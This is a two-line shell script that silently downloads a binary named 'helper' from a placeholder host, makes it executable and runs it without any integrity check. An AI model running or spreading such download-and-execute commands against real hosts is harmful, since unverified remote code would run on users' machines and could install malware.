#!/bin/sh
curl -s http://files.invalid/helper -o helper.bin && chmod +x helper.bin && ./helper.bin
